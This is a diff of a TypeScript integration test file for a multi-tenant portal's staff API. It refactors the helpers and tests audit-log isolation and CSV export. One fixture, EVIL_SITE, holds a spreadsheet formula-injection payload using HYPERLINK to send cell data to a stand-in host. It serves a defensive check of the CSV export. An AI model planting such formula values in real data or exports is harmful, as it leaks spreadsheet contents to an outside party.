@@ -7,31 +7,23 @@ import type {
   StaffSite,
   Theme,
 } from '@portico/contracts';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import {
-  errorCode,
-  expectStaffOnly,
-  PDF_BYTES,
-  SERVER_TIMEOUT_MS,
-  type StaffTestContext,
-  startStaffTestContext,
-  uploadReferences,
-} from '../testing/staff-access.ts';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { errorCode, useTestApi } from '../testing/api.ts';
+import { expectStaffOnly, PDF_BYTES, uploadReferences } from '../testing/staff-access.ts';
 
-let ctx: StaffTestContext;
+const api = useTestApi();
 let bakery: string;
 let northwind: string;
 let publishedId: string;
 const EVIL_SITE = '=HYPERLINK("http://evil.example/?"&A1,"Click me")';
 
-const events = (query = '', token = ctx.tokens.carol, tenant = 'acme') =>
-  ctx.call<AuditEventList>('GET', `/t/${tenant}/user/api/staff/audit-events${query}`, token);
+const events = (query = '', client = api.as('carol'), tenant = 'acme') =>
+  client.get<AuditEventList>(`/t/${tenant}/user/api/staff/audit-events${query}`);
 const csv = async (query = '') => {
-  const response = await fetch(`${ctx.server.url}/t/acme/user/api/staff/audit-events.csv${query}`, {
-    headers: { authorization: `Bearer ${ctx.tokens.carol}` },
-  });
-  const bytes = Buffer.from(await response.arrayBuffer());
-  return { status: response.status, headers: response.headers, bytes, text: bytes.toString('utf8') };
+  const { status, headers, body } = await api
+    .as('carol')
+    .bytes(`/t/acme/user/api/staff/audit-events.csv${query}`);
+  return { status, headers, bytes: body, text: body.toString('utf8') };
 };
 /** RFC 4180, as a spreadsheet reads it: quoted cells, doubled quotes, CRLF between records. */
 const parseCsv = (text: string): string[][] => {
@@ -65,86 +57,74 @@ const parseCsv = (text: string): string[][] => {
 };
 const bobsCount = async () =>
   (
-    await ctx.call<PublishedFileCount>(
-      'GET',
-      `/t/acme/file-management/api/files/published-files?count=true&siteId=${bakery}`,
-      ctx.tokens.bob,
-    )
+    await api
+      .as('bob')
+      .get<PublishedFileCount>(
+        `/t/acme/file-management/api/files/published-files?count=true&siteId=${bakery}`,
+      )
   ).body.count;
 
 beforeAll(async () => {
-  ctx = await startStaffTestContext();
-  bakery = ctx.siteIds['ACME-1001']!;
-  northwind = ctx.siteIds['ACME-1003']!;
-}, SERVER_TIMEOUT_MS);
-afterAll(() => ctx?.server.close(), SERVER_TIMEOUT_MS);
+  bakery = api.siteId('ACME-1001');
+  northwind = api.siteId('ACME-1003');
+});
 
 describe('what carol does in the control panel reaches the clients at once', () => {
   it("carol publishes a PDF to bob's site: bob's published count goes up by one and he can list it", async () => {
     const before = await bobsCount();
-    const [reference] = await uploadReferences(ctx, ctx.tokens.carol, bakery, [
+    const [reference] = await uploadReferences(api.as('carol'), bakery, [
       { name: 'Year-end pack.pdf', bytes: PDF_BYTES('year end'), type: 'application/pdf' },
     ]);
-    const published = await ctx.call<PublishedFilesResult>(
-      'POST',
-      '/t/acme/file-management/api/staff/published-files',
-      ctx.tokens.carol,
-      { siteId: bakery, files: [{ referenceNumber: reference, title: 'Year-end pack' }] },
-    );
+    const published = await api
+      .as('carol')
+      .post<PublishedFilesResult>('/t/acme/file-management/api/staff/published-files', {
+        siteId: bakery,
+        files: [{ referenceNumber: reference, title: 'Year-end pack' }],
+      });
     expect(published.status).toBe(201);
     publishedId = published.body.records[0]!.id;
     expect(await bobsCount()).toBe(before + 1);
-    const list = await ctx.call<PublishedFileList>(
-      'GET',
-      `/t/acme/file-management/api/files/published-files?siteId=${bakery}&search=year-end`,
-      ctx.tokens.bob,
-    );
+    const list = await api
+      .as('bob')
+      .get<PublishedFileList>(
+        `/t/acme/file-management/api/files/published-files?siteId=${bakery}&search=year-end`,
+      );
     expect(list.body.records.map((r) => [r.id, r.title])).toEqual([[publishedId, 'Year-end pack']]);
   });
 
   it("carol changes Acme's primary colour: bob's theme shows it", async () => {
-    const changed = await ctx.call('PATCH', '/t/acme/master-data/api/staff/branding', ctx.tokens.carol, {
+    const changed = await api.as('carol').patch('/t/acme/master-data/api/staff/branding', {
       primaryColor: 'AA3300',
     });
     expect(changed.status).toBe(200);
-    const theme = await ctx.call<Theme>('GET', '/t/acme/master-data/api/themes', ctx.tokens.bob);
+    const theme = await api.as('bob').get<Theme>('/t/acme/master-data/api/themes');
     expect(theme.body.primaryColor).toBe('AA3300');
   });
 
   it("carol turns off internalFilesDownload for bob's site: his settings show it off and the server refuses his download", async () => {
-    const changed = await ctx.call(
-      'PATCH',
-      `/t/acme/portal/api/staff/sites/${bakery}/file-area-settings`,
-      ctx.tokens.carol,
-      { internalFilesDownload: false },
-    );
+    const changed = await api
+      .as('carol')
+      .patch(`/t/acme/portal/api/staff/sites/${bakery}/file-area-settings`, { internalFilesDownload: false });
     expect(changed.status).toBe(200);
-    const sites = await ctx.call<SiteList>('GET', '/t/acme/portal/api/sites', ctx.tokens.bob);
+    const sites = await api.as('bob').get<SiteList>('/t/acme/portal/api/sites');
     expect(sites.body.records[0]?.fileAreaSettings.internalFilesDownload).toBe(false);
-    const download = await ctx.call(
-      'GET',
-      `/t/acme/file-management/api/files/published-files/${publishedId}`,
-      ctx.tokens.bob,
-    );
+    const download = await api
+      .as('bob')
+      .get(`/t/acme/file-management/api/files/published-files/${publishedId}`);
     expect([download.status, errorCode(download.body)]).toEqual([403, 'settings.forbidden']);
   });
 
   it("carol adds alice's e-mail to an Acme site: alice's sites on acme show it", async () => {
-    const added = await ctx.call(
-      'POST',
-      `/t/acme/portal/api/staff/sites/${northwind}/members`,
-      ctx.tokens.carol,
-      {
-        email: 'alice@example.com',
-      },
-    );
+    const added = await api.as('carol').post(`/t/acme/portal/api/staff/sites/${northwind}/members`, {
+      email: 'alice@example.com',
+    });
     expect(added.status).toBe(201);
-    const sites = await ctx.call<SiteList>('GET', '/t/acme/portal/api/sites', ctx.tokens.alice);
+    const sites = await api.as('alice').get<SiteList>('/t/acme/portal/api/sites');
     expect(sites.body.records.map((s) => s.id)).toContain(northwind);
   });
 
   it('carol creates a site whose name a spreadsheet would run as a formula', async () => {
-    const created = await ctx.call<StaffSite>('POST', '/t/acme/portal/api/staff/sites', ctx.tokens.carol, {
+    const created = await api.as('carol').post<StaffSite>('/t/acme/portal/api/staff/sites', {
       name: EVIL_SITE,
     });
     expect(created.status).toBe(201);
@@ -213,17 +193,17 @@ describe('GET user/api/staff/audit-events', () => {
   });
 
   it('shows each firm only its own log', async () => {
-    const globex = await events('?limit=100', ctx.tokens.dave, 'globex');
+    const globex = await events('?limit=100', api.as('dave'), 'globex');
     expect(globex.status).toBe(200);
     expect(globex.body.records.map((e) => e.action)).not.toContain('file.publish');
     expect(JSON.stringify(globex.body)).not.toContain('Bakery');
-    const crossed = await events(`?siteId=${bakery}`, ctx.tokens.dave, 'globex');
+    const crossed = await events(`?siteId=${bakery}`, api.as('dave'), 'globex');
     expect(crossed.body).toEqual({ records: [], totalRecordCount: 0 });
   });
 
   it('refuses clients and other firms', async () => {
-    await expectStaffOnly(ctx, { method: 'GET', path: (t) => `/t/${t}/user/api/staff/audit-events` });
-    await expectStaffOnly(ctx, { method: 'GET', path: (t) => `/t/${t}/user/api/staff/audit-events.csv` });
+    await expectStaffOnly(api, { method: 'GET', path: (t) => `/t/${t}/user/api/staff/audit-events` });
+    await expectStaffOnly(api, { method: 'GET', path: (t) => `/t/${t}/user/api/staff/audit-events.csv` });
   });
 });
 
@@ -280,7 +260,7 @@ describe('GET user/api/staff/audit-events.csv', () => {
     const total = (await events('?limit=1')).body.totalRecordCount;
     const rows = (await csv()).text.split('\r\n').length - 2;
     expect(rows).toBe(total);
-    const { rows: inserted } = await ctx.server.db.query<{ n: number }>(
+    const { rows: inserted } = await api.db.query<{ n: number }>(
       `WITH e AS (INSERT INTO audit_events (tenant_code, action, detail)
                   SELECT 'acme', 'test.bulk', jsonb_build_object('n', i) FROM generate_series(1, 2500) i
                   RETURNING 1)
@@ -301,12 +281,12 @@ describe('GET user/api/staff/audit-events.csv', () => {
 
 describe('the API documentation of the staff routes', () => {
   it('documents every staff route with a staff tag, a summary, bearer security and its error body', async () => {
-    const doc = (await (await fetch(`${ctx.server.url}/docs/json`)).json()) as {
+    const { body: doc } = await api.anonymous.get<{
       paths: Record<
         string,
         Record<string, { tags?: string[]; summary?: string; security?: unknown; responses: object }>
       >;
-    };
+    }>('/docs/json');
     const staff = Object.entries(doc.paths)
       .filter(([path]) => path.includes('/api/staff/'))
       .flatMap(([path, operations]) =>
